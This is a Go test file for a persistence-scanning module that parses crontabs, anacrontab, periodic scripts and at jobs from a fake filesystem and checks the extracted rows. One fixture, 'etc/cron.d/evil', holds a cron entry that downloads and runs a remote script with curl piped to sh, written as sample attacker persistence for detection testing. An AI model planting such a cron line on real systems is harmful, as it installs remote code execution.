package persistence

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/quaestor-engine/quaestor/modules/moduletest"
)

const atJob = `#!/bin/sh
# atrun uid=1000 gid=1000
# mail ann 0
umask 22
LANG=C.UTF-8; export LANG
NOTE=a\ b; export NOTE
/before
cd /home/ann || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
${SHELL:-/bin/sh} << 'marcinDELIMITER4a5b6c7d'
/tmp/.x/run
echo done

marcinDELIMITER4a5b6c7d
/behind
`

func cronHost(t testing.TB) string {
	return tree(t, map[string]string{
		"etc/crontab":                              "SHELL=/bin/sh\n# a comment\n\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\nMAILTO = \"ann\"\n@reboot ann /usr/bin/x=1 % in\n",
		"etc/cron.d/evil":                          "*/5 0-6,22-23 1 jan-mar Mon nobody curl -s http://192.0.2.7/a | sh\n61 * * * * root /never\nfoo\n* * * * * root\n",
		"etc/cron.d/.placeholder":                  "# nothing\n",
		"etc/cron.d/sub/x":                         "* * * * * root /not/read\n",
		"etc/anacrontab":                           "START_HOURS_RANGE=3-22\n7\t10\tcron.weekly\tnice run-parts /etc/cron.weekly\n@monthly 45 m run\nx 1 y z\n",
		"etc/cron.daily/clean":                     "#!/bin/sh\n",
		"etc/cron.daily/readme":                    "no script\n",
		"etc/periodic/15min/ping":                  "#!/bin/sh\n",
		"var/spool/cron/crontabs/ann":              "-1 2 * * 7 /home/ann/x\n@daily\n",
		"var/spool/cron/root":                      "0 0 * * * /root/y\n",
		"var/spool/cron/atjobs/a0001f01a2b3c4":     "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ann 0\n",
		"var/spool/cron/atjobs/a0001f01a2b3c4\x7f": "no job",
		"var/spool/cron/atjobs/.SEQ":               "0001f\n",
		"var/spool/cron/atjobs/b0002001a2b3c5":     "no script",
		"var/spool/at/=0002001a2b3c5":              atJob,
	})
}

func TestCron(t *testing.T) {
	columns := []string{"path", "line", "kind", "schedule", "user", "command", "name", "environment"}
	got, rec := moduletest.Rows(t, crons(), cronHost(t), columns, nil)
	same(t, got, []string{
		"/etc/crontab | 4 | crontab | 17 * * * * | root | cd / && run-parts --report /etc/cron.hourly | null | [SHELL=/bin/sh]",
		"/etc/crontab | 6 | crontab | @reboot | ann | /usr/bin/x=1 % in | null | [SHELL=/bin/sh, MAILTO=ann]",
		"/etc/cron.d/evil | 1 | crontab | */5 0-6,22-23 1 jan-mar Mon | nobody | curl -s http://192.0.2.7/a | sh | null | []",
		"/etc/anacrontab | 2 | anacron | 7 10 | root | nice run-parts /etc/cron.weekly | cron.weekly | [START_HOURS_RANGE=3-22]",
		"/etc/anacrontab | 3 | anacron | @monthly 45 | root | run | m | [START_HOURS_RANGE=3-22]",
		"/var/spool/cron/crontabs/ann | 1 | user | 1 2 * * 7 | ann | /home/ann/x | null | []",
		"/var/spool/cron/root | 1 | user | 0 0 * * * | root | /root/y | null | []",
		"/etc/cron.daily/clean | null | periodic | daily | root | /etc/cron.daily/clean | null | []",
		"/etc/periodic/15min/ping | null | periodic | 15min | root | /etc/periodic/15min/ping | null | []",
		"/var/spool/cron/atjobs/a0001f01a2b3c4 | null | at | 2022-03-04T14:28:00Z | ann | null | 31 | []",
		"/var/spool/at/=0002001a2b3c5 | null | at | 2022-03-04T14:29:00Z | ann | /before\\n/tmp/.x/run\\necho done\\n\\n/behind | 32 | [LANG=C.UTF-8, NOTE=a b]",
	})
	skipped(t, rec,
		"io_error /etc/cron.d/evil:2 malformed", "io_error /etc/cron.d/evil:3 malformed", "io_error /etc/cron.d/evil:4 malformed",
		"io_error /etc/anacrontab:4 malformed", "io_error /var/spool/cron/crontabs/ann:2 malformed",
		"io_error /var/spool/cron/atjobs/b0002001a2b3c5 malformed")
}

func TestCronLocator(t *testing.T) {
	got, _ := moduletest.Rows(t, crons(), cronHost(t), []string{"user"}, []string{"/etc/cron.d/*", "/var/spool/cron/root"})
	same(t, got, []string{"nobody", "root"})
}

func TestCronContract(t *testing.T) { moduletest.Run(t, crons(), cronHost(t)) }

func TestCronClosed(t *testing.T) {
	closed(t, crons(), cronHost(t), "var/spool/cron/crontabs")
}

func TestSchedules(t *testing.T) {
	for line, want := range map[string]bool{
		"* * * * *": true, "0~59 1-5/2 */3 dec sunday": true, "@hourly": true, "@3600": true, "@every": false,
		"* * * * 8": false, "mon * * * *": false, "1- * * * *": false, "*/0 * * * *": false, ", * * * *": false,
	} {
		if isSchedule(strings.Fields(line)) != want {
			t.Errorf("%q is not %v", line, want)
		}
	}
}

func FuzzCrontab(f *testing.F) {
	f.Add([]byte("A='b'\n* * * * * root x\n@daily y"), true)
	f.Fuzz(func(t *testing.T, text []byte, system bool) {
		for _, tab := range []tab{parseCrontab(text, system), parseAnacrontab(text)} {
			if len(tab.jobs)+len(tab.bad) > bytes.Count(text, []byte("\n"))+1 {
				t.Errorf("%+v", tab)
			}
			if slices.ContainsFunc(tab.jobs, func(j job) bool { return j.command == "" || j.schedule == "" || j.line == 0 }) {
				t.Errorf("%+v", tab.jobs)
			}
		}
	})
}

func FuzzAt(f *testing.F) {
	f.Add([]byte(atJob), "a0001f01a2b3c4")
	f.Fuzz(func(t *testing.T, text []byte, name string) {
		j, uid, ok := parseAt(text)
		if ok && uid < 0 || len(j.command) > len(text) {
			t.Errorf("%+v of %d", j, uid)
		}
		atName(name)
	})
}
